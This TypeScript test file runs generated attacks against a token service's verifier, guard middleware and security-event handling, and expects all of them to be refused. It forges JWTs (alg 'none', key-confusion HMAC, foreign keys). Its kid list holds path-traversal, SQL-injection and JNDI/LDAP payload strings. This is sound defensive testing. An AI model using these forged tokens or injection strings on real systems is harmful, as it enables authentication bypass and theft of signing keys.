/**
 * The adversarial suite: generated attack variants in more than twenty categories, each sent where it
 * belongs (the token endpoint and POST /wit over HTTP, the verifier library and a koa and an Express app
 * behind its middleware, the guard proxy, the Biscuit verifier), every one of which must be refused with
 * the right kind of refusal (an RFC 6749 / 6750 / 9449 error with its status, a typed BiscuitError, never
 * a 5xx or a crash); and valid controls of the same kinds, every one of which must be accepted, so a check
 * that refuses everything fails here too. Variants come from fast-check with a fixed seed (printed;
 * ADVERSARIAL_SEED replays another) and from systematic mutation over fields and values; each attempt
 * differs from every other in its category. The table printed at the end says what refused what.
 */
import { createHash, createHmac, createPrivateKey, createPublicKey, generateKeyPairSync, randomUUID, type KeyObject } from 'node:crypto';
import { createServer, type IncomingHttpHeaders, type RequestListener, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import fc from 'fast-check';
import Koa from 'koa';
import express from 'express';
import { calculateJwkThumbprint, decodeJwt, SignJWT, type CryptoKey, type JWK } from 'jose';
import { agentId, enc, startTestServer, TRUST_DOMAIN, type TestServer } from '../support/test-server.js';
import { client, discover, postForm } from '../support/oauth-client.js';
import { AT, exchange, JWT, registerSecretAgent, TOKEN_EXCHANGE, TXN, type SecretAgent } from '../support/agents.js';
import { newAgentKey, postJson, witByJoinToken, wpt, type AgentKey } from '../support/workload.js';
import { serverSigningKey, signJsonText, withRawMember } from '../support/forgery.js';
import { authority, editBlocks, mint, privateJwk, publicOf, rawAppend, rawHop, rootKey } from '../support/biscuit.js';
import { BISCUIT_TOKEN_TYPE, DEFAULT_RUN_LIMITS, biscuitKeyText, biscuitRootKeys, delegate, verifyBiscuit, type HopFacts } from '../../src/tokens/biscuit.js';
import { expressGuard, koaGuard, SecurityEventError, SESSION_REVOKED, TOKEN_CLAIMS_CHANGE, Verifier } from '../../src/verifier/index.js';
import { createGuardProxy, IDENTITY_HEADERS, listenGuard } from '../../src/guard/guard-proxy.js';
import { DEFAULT_POLICY } from '../../src/guard/scope-policy.js';
import { createLogger } from '../../src/log/logger.js';
import { tokenHash } from '../../src/tokens/token-hash.js';
import {
  biscuitOutcome, httpOutcome, Ledger, pool, rawRequest, SEED, throughGuard, variants, verifierOutcome, type HttpResult, type Outcome,
} from './adversarial-support.js';

const API = 'https://api.adversarial.example';
const OTHER = 'https://other.adversarial.example';
const ORCH = 'https://orchestrator.adversarial.example';
const SPEC = 'https://specialist.adversarial.example';
const TOOL = 'https://tools.adversarial.example/mcp';
const SCOPES = ['s:a', 's:b', 's:c', 's:d'];
const CLIENT_ASSERTION_TYPE = 'urn:ietf:params:oauth:client-assertion-type:jwt-bearer';

const C = {
  forged: 'forged signature',
  none: 'alg: none',
  hmac: 'HMAC with the public key as secret',
  kid: 'unknown kid',
  kidInjection: 'kid path / SQL injection',
  time: 'expired / not yet valid',
  audience: 'wrong audience',
  issuer: 'wrong issuer',
  typ: 'typ confusion between token types',
  scope: 'scope widening at a hop',
  audienceWidening: 'audience widening',
  budget: 'budget raise (Biscuit)',
  expiry: 'expiry extension (Biscuit)',
  depth: 'depth beyond the limit',
  context: 'empty delegation context',
  delegator: 'delegator ≠ previous delegate',
  blocks: 'Biscuit blocks reordered / dropped / other root',
  signer: 'Biscuit block signed by a key not entitled',
  datalog: 'Datalog injection (identifiers, contexts, requests)',
  replay: 'replay (DPoP proof, WPT, client assertion, join token)',
  bound: 'token bound to another key (DPoP, WIT)',
  revoked: 'revoked ancestor',
  disabled: 'disabled agent',
  smuggle: 'smuggled identity headers (guard)',
  target: 'request target / Host outside the upstream (guard)',
  json: 'oversize and deeply nested JSON',
  form: 'malformed form bodies',
  securityEvent: 'forged or misdirected security event (SET)',
} as const;

const INVALID_TOKEN = /^invalid_token \(401\)$/;
const BISCUIT = (...failures: string[]) => new RegExp(`^BiscuitError:(${failures.join('|')})$`);
const OAUTH = (...errors: string[]) => new RegExp(`^(${errors.join('|')}) \\((400|401)\\)$`);

const now = () => Math.floor(Date.now() / 1000);
const b64 = (v: unknown) => Buffer.from(typeof v === 'string' ? v : JSON.stringify(v)).toString('base64url');
const seedOf = (name: string) => SEED + [...name].reduce((h, ch) => (h * 31 + ch.charCodeAt(0)) >>> 0, 7);

async function listen(handler: RequestListener): Promise<{ server: Server; url: string; port: number }> {
  const server = createServer(handler);
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const port = (server.address() as AddressInfo).port;
  return { server, url: `http://127.0.0.1:${port}`, port };
}
const closeServer = (s: Server | undefined) => new Promise<void>((r) => (s ? s.close(() => r()) : r()));

describe('adversarial suite: generated attacks, all refused; valid controls, all accepted', () => {
  const ledger = new Ledger();
  let ts: TestServer;
  let verifier: Verifier;
  let signers: Record<'EdDSA' | 'ES256', { key: CryptoKey | KeyObject | Uint8Array; kid: string }>;
  let biscuitRoot: { privateJwk: JWK; rootKeyId: number };
  let jwks: { keys: JWK[] };
  let koaApp: Awaited<ReturnType<typeof listen>>;
  let expressApp: Awaited<ReturnType<typeof listen>>;
  const started = Date.now();

  /** Foreign keys: the attacker's. */
  const foreign = { EdDSA: generateKeyPairSync('ed25519'), ES256: generateKeyPairSync('ec', { namedCurve: 'P-256' }) };

  const sign = (claims: Record<string, unknown>, header: Record<string, unknown> = {}, alg: 'EdDSA' | 'ES256' = 'EdDSA', key?: KeyObject | CryptoKey) =>
    new SignJWT(claims).setProtectedHeader({ alg, kid: signers[alg].kid, typ: 'at+jwt', ...header } as { alg: string }).sign(key ?? signers[alg].key);

  const accessClaims = (over: Record<string, unknown> = {}) => ({
    iss: ts.issuer, sub: agentId('caller'), client_id: agentId('caller'), aud: API, scope: 's:a s:b', jti: randomUUID(), iat: now(), exp: now() + 300, ...over,
  });
  const request = (headers: Record<string, string>, path = '/read', method = 'GET') => ({ method, url: `${API}${path}`, headers });
  const bearer = (token: string) => request({ authorization: `Bearer ${token}` });

  beforeAll(async () => {
    console.log(`adversarial seed ${SEED} (ADVERSARIAL_SEED=${SEED} replays it)`);
    ts = await startTestServer({ LOG_LEVEL: 'warn' });
    signers = { EdDSA: await serverSigningKey(ts, 'EdDSA'), ES256: await serverSigningKey(ts, 'ES256') };
    biscuitRoot = ts.server.keys.activeBiscuitRoot();
    jwks = await (await fetch(`${ts.url}/jwks`)).json() as { keys: JWK[] };
    verifier = new Verifier({ issuer: ts.issuer, audience: API, trustDomain: TRUST_DOMAIN, jwksCooldownMs: 60_000 });
    await verifier.ready();
    const koa = new Koa();
    koa.use(koaGuard(verifier, { requiredScopes: ['s:a'] }));
    koa.use((ctx) => {
      ctx.body = { ok: true };
    });
    koaApp = await listen(koa.callback() as unknown as RequestListener);
    const ex = express();
    ex.use(expressGuard(verifier, { requiredScopes: ['s:a'] }));
    ex.get('/', (_req, res) => {
      res.json({ ok: true });
    });
    expressApp = await listen(ex as unknown as RequestListener);
  });

  afterAll(async () => {
    await closeServer(koaApp?.server);
    await closeServer(expressApp?.server);
    await ts?.close();
  });

  /** Checks a group's attempts as it ends, so a failure is reported where it happened. */
  const noFailuresIn = (prefix: string) => {
    const mine = ledger.failures.filter((f) => f.startsWith(prefix));
    expect(mine, mine.slice(0, 20).join('\n')).toEqual([]);
  };
  const noFailures = (...categories: string[]) => {
    const mine = ledger.failures.filter((f) => categories.some((c) => f.startsWith(`${c}`)));
    expect(mine, mine.slice(0, 20).join('\n')).toEqual([]);
  };

  // ---------------------------------------------------------------------------------------------------
  describe('the verifier library (agent-sts/verifier), through the guard its koa and Express middleware use', () => {
    const validClaims = fc.record({
      sub: fc.stringMatching(/^[a-z][a-z0-9-]{0,15}$/),
      scopes: fc.subarray(SCOPES, { minLength: 1 }),
      aud: fc.constantFrom<unknown>(API, [API], [OTHER, API], [API, OTHER]),
      lifetime: fc.integer({ min: 30, max: 86_400 }),
      age: fc.integer({ min: 0, max: 25 }),
      alg: fc.constantFrom<'EdDSA' | 'ES256'>('EdDSA', 'ES256'),
      actors: fc.array(fc.stringMatching(/^[a-z]{1,8}$/), { maxLength: 3 }),
      withNbf: fc.boolean(),
    });
    type Valid = typeof validClaims extends fc.Arbitrary<infer T> ? T : never;
    const claimsOf = (v: Valid, over: Record<string, unknown> = {}) => {
      let act: Record<string, unknown> | undefined;
      for (const a of [...v.actors].reverse()) act = { sub: agentId(a), ...(act ? { act } : {}) };
      return accessClaims({
        sub: agentId(v.sub), client_id: agentId(v.sub), aud: v.aud, scope: v.scopes.join(' '), iat: now() - v.age, exp: now() + v.lifetime,
        ...(v.withNbf ? { nbf: now() - v.age } : {}), ...(act ? { act } : {}), ...over,
      });
    };

    it('controls: access tokens with generated valid claims, both algorithms, are accepted', async () => {
      const all = variants(validClaims, 300, seedOf('valid access tokens'));
      await pool(all, 16, async (v) => {
        const token = await sign(claimsOf(v), {}, v.alg);
        const outcome = await throughGuard(verifier, bearer(token), { requiredScopes: v.scopes.slice(0, 1) });
        ledger.control(C.forged, `valid ${JSON.stringify(v)}`, !outcome.refused && outcome.detail === 'accepted', outcome.refused ? outcome.by : outcome.detail);
      });
      noFailures(C.forged);
    });

    it(C.forged, async () => {
      const mutation = fc.oneof(
        fc.record({ kind: fc.constant('foreign key with our kid'), alg: fc.constantFrom<'EdDSA' | 'ES256'>('EdDSA', 'ES256') }),
        fc.record({ kind: fc.constant('signature bit flipped'), bit: fc.nat({ max: 511 }) }),
        fc.record({ kind: fc.constant('payload altered, signature kept'), claim: fc.constantFrom('scope', 'sub', 'aud', 'exp', 'act', 'cnf'), value: fc.string({ minLength: 1, maxLength: 12 }) }),
        fc.record({ kind: fc.constant('signature of another token'), other: fc.nat() }),
        fc.record({ kind: fc.constant('signature truncated'), keep: fc.integer({ min: 0, max: 60 }) }),
        fc.record({ kind: fc.constant('ES256 signature in DER'), tweak: fc.nat({ max: 3 }) }),
      );
      const all = variants(fc.tuple(validClaims, mutation), 90, seedOf(C.forged));
      await pool(all, 16, async ([v, m]) => {
        const claims = claimsOf(v);
        let token: string;
        if (m.kind === 'foreign key with our kid') {
          token = await sign(claims, {}, m.alg, foreign[m.alg].privateKey);
        } else {
          const alg = m.kind === 'ES256 signature in DER' ? 'ES256' : v.alg;
          const good = await sign(claims, {}, alg);
          const [h, p, s] = good.split('.') as [string, string, string];
          if (m.kind === 'signature bit flipped') {
            const sig = Buffer.from(s, 'base64url');
            sig[(m.bit >> 3) % sig.length]! ^= 1 << (m.bit & 7);
            token = `${h}.${p}.${sig.toString('base64url')}`;
          } else if (m.kind === 'payload altered, signature kept') {
            token = `${h}.${b64({ ...claims, [m.claim]: m.value })}.${s}`;
          } else if (m.kind === 'signature of another token') {
            const other = await sign({ ...claims, jti: `other-${m.other}` }, {}, alg);
            token = `${h}.${p}.${other.split('.')[2]}`;
          } else if (m.kind === 'signature truncated') {
            token = `${h}.${p}.${s.slice(0, m.keep)}`;
          } else {
            // The same signature re-encoded as ASN.1 DER (JOSE requires the raw r || s form).
            const raw = Buffer.from(s, 'base64url');
            const int = (b: Buffer) => {
              let i = 0;
              while (i < b.length - 1 && b[i] === 0) i++;
              const v2 = b.subarray(i);
              return v2[0]! & 0x80 ? Buffer.concat([Buffer.from([0]), v2]) : v2;
            };
            const r = int(raw.subarray(0, 32));
            const sv = int(raw.subarray(32));
            const der = Buffer.concat([Buffer.from([0x30, r.length + sv.length + 4 + m.tweak, 0x02, r.length]), r, Buffer.from([0x02, sv.length]), sv]);
            token = `${h}.${p}.${der.toString('base64url')}`;
          }
        }
        ledger.attack(C.forged, 'verifier', JSON.stringify([v, m]), await throughGuard(verifier, bearer(token)), INVALID_TOKEN);
      });
      noFailures(C.forged);
    });

    it(C.none, async () => {
      const arb = fc.record({
        alg: fc.constantFrom('none', 'None', 'NONE', 'nOnE', 'none ', ''),
        signature: fc.constantFrom('empty', 'garbage', 'original'),
        kid: fc.constantFrom('ours', 'absent', 'empty'),
        typ: fc.constantFrom('at+jwt', 'absent', 'txntoken+jwt'),
        slot: fc.constantFrom('authorization', 'txn-token'),
      });
      const all = variants(arb, 60, seedOf(C.none));
      await pool(all, 16, async (v) => {
        const claims = accessClaims(v.slot === 'txn-token' ? { aud: TRUST_DOMAIN, txn: randomUUID() } : {});
        const header: Record<string, unknown> = { alg: v.alg, ...(v.kid === 'ours' ? { kid: signers.EdDSA.kid } : v.kid === 'empty' ? { kid: '' } : {}), ...(v.typ === 'absent' ? {} : { typ: v.typ }) };
        const original = (await sign(claims)).split('.')[2];
        const token = `${b64(header)}.${b64(claims)}.${v.signature === 'empty' ? '' : v.signature === 'garbage' ? 'AAAA' : original}`;
        const headers: Record<string, string> = v.slot === 'authorization' ? { authorization: `Bearer ${token}` } : { 'txn-token': token };
        ledger.attack(C.none, 'verifier', JSON.stringify(v), await throughGuard(verifier, request(headers)), INVALID_TOKEN);
      });
      noFailures(C.none);
    });

    it(C.hmac, async () => {
      const ed = jwks.keys.find((k) => k.kid === signers.EdDSA.kid)!;
      const ec = jwks.keys.find((k) => k.kid === signers.ES256.kid)!;
      const secretsOf = (jwk: JWK): [string, Buffer][] => {
        const pub = createPublicKey({ key: jwk as never, format: 'jwk' });
        return [
          ['x bytes', Buffer.from(jwk.x!, 'base64url')],
          ['x text', Buffer.from(jwk.x!)],
          ['JWK JSON', Buffer.from(JSON.stringify(jwk))],
          ['public JWK JSON without kid', Buffer.from(JSON.stringify({ kty: jwk.kty, crv: jwk.crv, x: jwk.x, ...(jwk.y ? { y: jwk.y } : {}) }))],
          ['SPKI PEM', Buffer.from(pub.export({ type: 'spki', format: 'pem' }) as string)],
          ['SPKI DER', pub.export({ type: 'spki', format: 'der' }) as Buffer],
          ['JWKS JSON', Buffer.from(JSON.stringify(jwks))],
        ];
      };
      const cases: { alg: string; kid: string; secret: string; bytes: Buffer; typ: string }[] = [];
      for (const alg of ['HS256', 'HS384', 'HS512']) {
        for (const jwk of [ed, ec]) {
          for (const [name, bytes] of secretsOf(jwk)) cases.push({ alg, kid: jwk.kid!, secret: name, bytes, typ: 'at+jwt' });
        }
      }
      await pool(cases, 16, async (c) => {
        const head = b64({ alg: c.alg, kid: c.kid, typ: c.typ });
        const body = b64(accessClaims());
        const mac = createHmac(`sha${c.alg.slice(2)}`, c.bytes).update(`${head}.${body}`).digest('base64url');
        ledger.attack(C.hmac, 'verifier', JSON.stringify({ alg: c.alg, kid: c.kid, secret: c.secret }), await throughGuard(verifier, bearer(`${head}.${body}.${mac}`)), INVALID_TOKEN);
      });
      noFailures(C.hmac);
    });

    it(C.kid, async () => {
      const real = new Set(jwks.keys.map((k) => k.kid));
      const arb = fc.record({
        kid: fc.oneof(fc.string({ minLength: 1, maxLength: 40 }), fc.uuid(), fc.stringMatching(/^[A-Za-z0-9_-]{43}$/), fc.constantFrom(`${signers.EdDSA.kid}x`, signers.EdDSA.kid.toLowerCase(), signers.EdDSA.kid.slice(1), ` ${signers.EdDSA.kid}`)),
        alg: fc.constantFrom<'EdDSA' | 'ES256'>('EdDSA', 'ES256'),
      }).filter((v) => !real.has(v.kid));
      const all = variants(arb, 60, seedOf(C.kid));
      await pool(all, 16, async (v) => {
        const token = await sign(accessClaims(), { kid: v.kid }, v.alg, foreign[v.alg].privateKey);
        ledger.attack(C.kid, 'verifier', JSON.stringify(v), await throughGuard(verifier, bearer(token)), INVALID_TOKEN);
      });
      noFailures(C.kid);
    });

    const KID_INJECTIONS = [
      '../../../../../../dev/null', '/dev/null', '../../etc/passwd', '..\\..\\windows\\win.ini', 'file:///etc/passwd', '%2e%2e%2f%2e%2e%2fdev%2fnull',
      "' OR '1'='1", "x' OR 1=1 --", "'; DROP TABLE signing_keys; --", '" OR ""="', "1; SELECT pg_sleep(5)--", "') UNION SELECT private_jwk FROM signing_keys --",
      'kid\u0000', '\u0000', '*', '%', '_', 'biscuit-', 'http://127.0.0.1:1/jwks', '${jndi:ldap://x/a}',
    ];
    it(C.kidInjection, async () => {
      const cases: { kid: string; signer: string }[] = [];
      for (const kid of KID_INJECTIONS) for (const signer of ['foreign Ed25519', 'HS256 with an empty secret', 'HS256 with the kid as secret']) cases.push({ kid, signer });
      // The Biscuit root key is published in the same JWKS: it must not sign access tokens.
      cases.push({ kid: `biscuit-${biscuitRoot.rootKeyId}`, signer: 'the Biscuit root key' });
      cases.push({ kid: `biscuit-${biscuitRoot.rootKeyId}`, signer: 'foreign Ed25519' });
      await pool(cases, 16, async (c) => {
        const claims = accessClaims();
        let token: string;
        if (c.signer === 'foreign Ed25519') token = await sign(claims, { kid: c.kid }, 'EdDSA', foreign.EdDSA.privateKey);
        else if (c.signer === 'the Biscuit root key') token = await sign(claims, { kid: c.kid }, 'EdDSA', createPrivateKeyFromJwk(biscuitRoot.privateJwk));
        else {
          const head = b64({ alg: 'HS256', kid: c.kid, typ: 'at+jwt' });
          const body = b64(claims);
          token = `${head}.${body}.${createHmac('sha256', c.signer.includes('empty') ? Buffer.alloc(0) : Buffer.from(c.kid)).update(`${head}.${body}`).digest('base64url')}`;
        }
        ledger.attack(C.kidInjection, 'verifier', JSON.stringify(c), await throughGuard(verifier, bearer(token)), INVALID_TOKEN);
      });
      noFailures(C.kidInjection);
    });

    it(C.time, async () => {
      const arb = fc.oneof(
        fc.record({ kind: fc.constant('expired'), by: fc.integer({ min: 10, max: 10_000_000 }), alg: fc.constantFrom<'EdDSA' | 'ES256'>('EdDSA', 'ES256') }),
        fc.record({ kind: fc.constant('not yet valid (nbf)'), by: fc.integer({ min: 10, max: 10_000_000 }), alg: fc.constantFrom<'EdDSA' | 'ES256'>('EdDSA', 'ES256') }),
        fc.record({ kind: fc.constant('issued in the future (iat)'), by: fc.integer({ min: 10, max: 10_000_000 }), alg: fc.constantFrom<'EdDSA' | 'ES256'>('EdDSA', 'ES256') }),
        fc.record({ kind: fc.constantFrom('exp as a string', 'exp as an array'), by: fc.integer({ min: 60, max: 100_000 }), alg: fc.constantFrom<'EdDSA' | 'ES256'>('EdDSA', 'ES256') }),
        fc.record({ kind: fc.constantFrom('no exp', 'exp null', 'exp NaN text', 'exp 0', 'no iat', 'iat as a string'), by: fc.constant(0), alg: fc.constantFrom<'EdDSA' | 'ES256'>('EdDSA', 'ES256') }),
        fc.record({ kind: fc.constant('nbf as a string'), by: fc.integer({ min: 10, max: 10_000_000 }), alg: fc.constantFrom<'EdDSA' | 'ES256'>('EdDSA', 'ES256') }),
      );
      const all = variants(arb, 90, seedOf(C.time));
      await pool(all, 16, async (v) => {
        const t = now();
        const over: Record<string, unknown> =
          v.kind === 'expired' ? { iat: t - v.by - 300, exp: t - v.by }
          : v.kind === 'not yet valid (nbf)' ? { nbf: t + v.by, exp: t + v.by + 300 }
          : v.kind === 'issued in the future (iat)' ? { iat: t + v.by, exp: t + v.by + 300 }
          : v.kind === 'exp as a string' ? { exp: String(t + v.by) }
          : v.kind === 'exp as an array' ? { exp: [t + v.by] }
          : v.kind === 'exp null' ? { exp: null }
          : v.kind === 'exp NaN text' ? { exp: 'NaN' }
          : v.kind === 'exp 0' ? { exp: 0 }
          : v.kind === 'iat as a string' ? { iat: String(t) }
          : v.kind === 'nbf as a string' ? { nbf: String(t + v.by) } : {};
        const claims = accessClaims(over);
        if (v.kind === 'no exp') delete (claims as Record<string, unknown>).exp;
        if (v.kind === 'no iat') delete (claims as Record<string, unknown>).iat;
        ledger.attack(C.time, 'verifier', JSON.stringify(v), await throughGuard(verifier, bearer(await sign(claims, {}, v.alg))), INVALID_TOKEN);
      });
      // Controls: lifetimes from seconds to a day, nbf and iat in the past or within the allowed skew.
      const valid = fc.record({ left: fc.integer({ min: 10, max: 86_400 }), age: fc.integer({ min: 0, max: 3600 }), nbf: fc.integer({ min: -3, max: 3600 }), future: fc.integer({ min: 0, max: 3 }), alg: fc.constantFrom<'EdDSA' | 'ES256'>('EdDSA', 'ES256') });
      await pool(variants(valid, 130, seedOf('valid lifetimes')), 16, async (v) => {
        const t = now();
        const claims = accessClaims({ iat: v.future ? t + v.future : t - v.age, nbf: t - v.nbf, exp: t + v.left });
        const o = await throughGuard(verifier, bearer(await sign(claims, {}, v.alg)));
        ledger.control(C.time, JSON.stringify(v), !o.refused, o.refused ? `${o.by} ${o.detail}` : o.detail);
      });
      noFailures(C.time);
    });

    it(C.audience, async () => {
      const fixed: unknown[] = [
        `${API}/`, API.toUpperCase(), API.replace('https:', 'http:'), `${API}/read`, API.slice(0, -1), `${API}.evil.example`, ` ${API}`, `${API} `, `${API}#`, `${API}?`,
        [OTHER], [], '', null, 42, { aud: API }, [[API]], `${API}\u0000`, OTHER, TRUST_DOMAIN, ts.issuer, `spiffe://${TRUST_DOMAIN}`, '*', [`${API}/`, OTHER],
      ];
      const arb = fc.oneof(
        fc.constantFrom(...fixed.map((a) => ({ aud: a }))),
        fc.webUrl().filter((u) => u !== API).map((u) => ({ aud: u as unknown })),
        fc.array(fc.webUrl().filter((u) => u !== API), { minLength: 1, maxLength: 3 }).map((a) => ({ aud: a as unknown })),
      );
      const all = variants(arb, 70, seedOf(C.audience));
      await pool(all, 16, async (v) => {
        ledger.attack(C.audience, 'verifier', JSON.stringify(v), await throughGuard(verifier, bearer(await sign(accessClaims({ aud: v.aud })))), INVALID_TOKEN);
      });
      // Txn-Tokens are for the trust domain only.
      for (const aud of [API, `${TRUST_DOMAIN}.evil`, TRUST_DOMAIN.toUpperCase(), `spiffe://${TRUST_DOMAIN}`, [OTHER]]) {
        const txn = await sign(accessClaims({ aud, txn: randomUUID() }), { typ: 'txntoken+jwt' });
        ledger.attack(C.audience, 'verifier', `txn-token aud ${JSON.stringify(aud)}`, await throughGuard(verifier, request({ 'txn-token': txn })), INVALID_TOKEN);
      }
      noFailures(C.audience);
    });

    it(C.issuer, async () => {
      const u = new URL(ts.issuer);
      const fixed: unknown[] = [
        `${ts.issuer}/`, ts.issuer.replace('http:', 'https:'), `http://localhost:${u.port}`, `http://127.0.0.1:${Number(u.port) + 1}`, `${ts.issuer}/token`, ` ${ts.issuer}`, `${ts.issuer}#`,
        ts.issuer.toUpperCase(), [ts.issuer], null, 1, '', `${ts.issuer}\u0000`, { iss: ts.issuer }, `http://127.0.0.1.evil.example:${u.port}`, `http://user@127.0.0.1:${u.port}`,
      ];
      const arb = fc.oneof(
        fc.constantFrom(...fixed.map((iss) => ({ iss, missing: false }))),
        fc.webUrl().filter((x) => x !== ts.issuer).map((iss) => ({ iss: iss as unknown, missing: false })),
        fc.constant({ iss: undefined as unknown, missing: true }),
      );
      const all = variants(arb, 60, seedOf(C.issuer));
      await pool(all, 16, async (v) => {
        const claims = accessClaims({ iss: v.iss });
        if (v.missing) delete (claims as Record<string, unknown>).iss;
        ledger.attack(C.issuer, 'verifier', JSON.stringify(v), await throughGuard(verifier, bearer(await sign(claims))), INVALID_TOKEN);
      });
      noFailures(C.issuer);
    });

    it(`${C.typ}: each slot refuses the other token types, including a Biscuit`, async () => {
      const key = await newAgentKey();
      const slots = {
        authorization: { own: 'at+jwt', claims: () => accessClaims(), headers: (t: string) => ({ authorization: `Bearer ${t}` }) },
        'txn-token': { own: 'txntoken+jwt', claims: () => accessClaims({ aud: TRUST_DOMAIN, txn: randomUUID() }), headers: (t: string) => ({ 'txn-token': t }) },
      } as const;
      const presented = ['at+jwt', 'txntoken+jwt', 'wit+jwt', 'wpt+jwt', 'JWT', 'jwt', 'dpop+jwt', 'application/wit+jwt', 'application/txntoken+jwt', 'secevent+jwt', 'id_token+jwt', 'token-introspection+jwt', 'absent'];
      const cases: { slot: keyof typeof slots | 'wit'; typ: string; alg: 'EdDSA' | 'ES256' }[] = [];
      for (const alg of ['EdDSA', 'ES256'] as const) {
        for (const typ of presented) {
          for (const slot of ['authorization', 'txn-token', 'wit'] as const) {
            const own = slot === 'wit' ? 'wit+jwt' : slots[slot].own;
            if (typ.replace(/^application\//, '').toLowerCase() !== own) cases.push({ slot, typ, alg });
          }
        }
      }
      await pool(cases, 16, async (c) => {
        const header = c.typ === 'absent' ? { typ: undefined } : { typ: c.typ };
        let outcome: Outcome;
        if (c.slot === 'wit') {
          const wit = await sign(accessClaims({ aud: undefined, cnf: { jwk: key.jwk } }), header, c.alg);
          outcome = await throughGuard(verifier, request({ 'workload-identity-token': wit, 'workload-proof-token': await wpt(wit, key, `${API}/read`) }));
        } else {
          outcome = await throughGuard(verifier, request(slots[c.slot].headers(await sign(slots[c.slot].claims(), header, c.alg))));
        }
        ledger.attack(C.typ, 'verifier', JSON.stringify(c), outcome, INVALID_TOKEN);
      });
      // A Biscuit where a JWT goes, and JWTs where the Biscuit verifier expects a Biscuit.
      const root = await rootKey(biscuitRoot.rootKeyId);
      const biscuit = await mint(biscuitRoot, authority(agentId('caller'), undefined, { audiences: [API] }));
      void root;
      for (const [slot, headers] of [['txn-token', { 'txn-token': biscuit }], ['wit', { 'workload-identity-token': biscuit, 'workload-proof-token': biscuit }], ['dpop scheme', { authorization: `DPoP ${biscuit}` }]] as const) {
        ledger.attack(C.typ, 'verifier', `Biscuit in ${slot}`, await throughGuard(verifier, request(headers as Record<string, string>)), INVALID_TOKEN);
      }
      for (const typ of ['at+jwt', 'txntoken+jwt', 'wit+jwt']) {
        const jwt = await sign(accessClaims(), { typ });
        ledger.attack(C.typ, 'verifyBiscuit', `${typ} JWT as a Biscuit`, await biscuitOutcome(() => verifyBiscuit(jwt, { rootKeys: biscuitRootKeys(jwks), request: { resource: API, now: new Date() } })), BISCUIT('malformed'));
        ledger.attack(C.typ, 'verifier', `${typ} JWT base64url-wrapped as a Biscuit bearer token`, await throughGuard(verifier, bearer(b64(jwt))), INVALID_TOKEN);
      }
      // Controls: each slot with its own type.
      for (let i = 0; i < 20; i++) {
        const alg = i % 2 ? 'ES256' : 'EdDSA';
        const txn = await sign(slots['txn-token'].claims(), { typ: i % 4 < 2 ? 'txntoken+jwt' : 'application/txntoken+jwt' }, alg);
        const o1 = await throughGuard(verifier, request({ 'txn-token': txn }));
        ledger.control(C.typ, `txn-token ${i}`, !o1.refused, o1.refused ? o1.by : '');
        const wit = await sign(accessClaims({ aud: undefined, cnf: { jwk: key.jwk } }), { typ: 'wit+jwt' }, alg);
        const o2 = await throughGuard(verifier, request({ 'workload-identity-token': wit, 'workload-proof-token': await wpt(wit, key, `${API}/read`) }));
        ledger.control(C.typ, `wit ${i}`, !o2.refused, o2.refused ? o2.by : '');
        const ok = await verifierOutcome(() => verifier.verifyBiscuit(biscuit, { tools: ['read'] }));
        if (i === 0) ledger.control(C.typ, 'Biscuit as bearer', !ok.refused, ok.refused ? ok.by : '');
      }
      noFailures(C.typ);
    });

    it(`${C.securityEvent}: refused, with no effect on the tokens it names`, async () => {
      // Its own verifier: accepted events have effects.
      const v = new Verifier({ issuer: ts.issuer, audience: API });
      const setOutcome = async (set: string): Promise<Outcome> => {
        try {
          await v.acceptSecurityEvent(set, { audience: API });
          return { refused: false, detail: 'accepted' };
        } catch (err) {
          return err instanceof SecurityEventError ? { refused: true, by: `SecurityEventError:${err.code}` } : { refused: false, detail: `crash: ${String(err)}` };
        }
      };
      const victims = await Promise.all(Array.from({ length: 4 }, () => sign(accessClaims())));
      const victimJti = (i: number) => decodeJwt(victims[i % victims.length]!).jti as string;
      const setClaims = (i: number, over: Record<string, unknown> = {}) => ({
        iss: ts.issuer, jti: randomUUID(), iat: now(), aud: API, sub_id: { format: 'jwt_id', iss: ts.issuer, jti: victimJti(i) },
        events: { [SESSION_REVOKED]: { event_timestamp: now(), initiating_entity: 'admin' } }, ...over,
      });
      const signSet = (claims: Record<string, unknown>, header: Record<string, unknown> = {}, alg: 'EdDSA' | 'ES256' = 'EdDSA', key?: KeyObject | CryptoKey) =>
        sign(claims, { typ: 'secevent+jwt', ...header }, alg, key);
      const mutation = fc.oneof(
        fc.record({ kind: fc.constant('foreign key with our kid'), alg: fc.constantFrom<'EdDSA' | 'ES256'>('EdDSA', 'ES256') }),
        fc.record({ kind: fc.constant('alg none'), alg: fc.constantFrom('none', 'None', 'NONE', ''), sig: fc.constantFrom('', 'AAAA') }),
        fc.record({ kind: fc.constant('typ of another token'), typ: fc.constantFrom('at+jwt', 'txntoken+jwt', 'wit+jwt', 'JWT', 'secevent', 'absent') }),
        fc.record({ kind: fc.constant('another issuer'), iss: fc.constantFrom('https://evil.example', `${ts.issuer}/`, ts.issuer.toUpperCase(), '') }),
        fc.record({ kind: fc.constant('another audience'), aud: fc.constantFrom(OTHER, [OTHER], `${API}/`, []) }),
        fc.record({ kind: fc.constant('events malformed'), events: fc.constantFrom<unknown>(undefined, {}, [], 'x', { [SESSION_REVOKED]: 'x' }, { [SESSION_REVOKED]: [] }, { [SESSION_REVOKED]: {}, [TOKEN_CLAIMS_CHANGE]: {} }) }),
        fc.record({ kind: fc.constant('sub_id malformed'), sub_id: fc.constantFrom<unknown>(undefined, 'x', 1, {}, { format: 1 }, []) }),
        fc.record({ kind: fc.constant('jti or iat malformed'), jti: fc.constantFrom<unknown>(undefined, '', 1), iat: fc.constantFrom<unknown>(undefined, 'now', 9_999_999_999) }),
        fc.record({ kind: fc.constant('payload altered, signature kept'), victim: fc.nat({ max: 3 }) }),
        fc.record({ kind: fc.constant('unknown kid'), kid: fc.string({ minLength: 1, maxLength: 12 }) }),
        fc.record({ kind: fc.constant('HMAC with the public key'), alg: fc.constantFrom('HS256', 'HS384', 'HS512') }),
      );
      const expected: Record<string, RegExp> = {
        'foreign key with our kid': /^SecurityEventError:invalid_key$/, 'alg none': /^SecurityEventError:invalid_request$/,
        'typ of another token': /^SecurityEventError:invalid_request$/, 'another issuer': /^SecurityEventError:invalid_issuer$/,
        'another audience': /^SecurityEventError:invalid_audience$/, 'events malformed': /^SecurityEventError:invalid_request$/,
        'sub_id malformed': /^SecurityEventError:invalid_request$/, 'jti or iat malformed': /^SecurityEventError:invalid_request$/,
